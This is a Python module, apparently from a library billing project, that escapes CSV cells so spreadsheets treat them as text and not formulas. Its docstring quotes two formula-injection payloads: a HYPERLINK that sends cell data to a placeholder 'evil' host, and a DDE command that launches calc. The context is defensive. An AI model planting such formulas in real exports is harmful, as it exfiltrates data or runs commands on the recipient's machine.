"""CSV cells a spreadsheet opens as text, never as formulas (CSV or formula injection).

Every CSV file the project writes (the bursar report, report exports) is made by
`spreadsheet_csv`. Patron names, titles and reasons are typed by people or come from
imports; a name such as `=HYPERLINK("http://evil/?"&A1,"Smith")` or `=cmd|' /C calc'!A0`
would otherwise run when the bursar's office opens the file.

The rule (OWASP, "CSV Injection"): a cell that starts with `=`, `+`, `-`, `@`, a tab or a
carriage return gets a single quote `'` in front, so the spreadsheet shows the text as it
was typed. The csv module's own quoting takes care of commas, quotes and line breaks.

One exception, and why it is safe: a cell that is wholly a plain decimal number
(`-12.50`, `3`, `0.00`) is left alone. Such a cell cannot hold a formula or a function
call, so the worst a spreadsheet can do is read it as the number it is; and the bursar's
import needs amounts (credits are negative) as numbers, not as quoted text. The amounts
and counts in our files are made by our own code from numbers; if someone typed "-12" as
a title, it shows as the number -12, which runs nothing. Anything else that starts with a
minus sign (`-2+3`, `-1e5`, `-A1`) is quoted.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def spreadsheet_cell(value: object) -> str:
    """The cell's text, with a leading `'` when a spreadsheet would take it for a formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def spreadsheet_row(cells: Iterable[object]) -> tuple[str, ...]:
    """One row of cells, each made safe by `spreadsheet_cell`."""
    return tuple(spreadsheet_cell(cell) for cell in cells)


def spreadsheet_csv(rows: Iterable[Iterable[object]]) -> str:
    """The rows as CSV text (CRLF line ends, as spreadsheets expect), every cell made safe."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerows(spreadsheet_row(row) for row in rows)
    return out.getvalue()
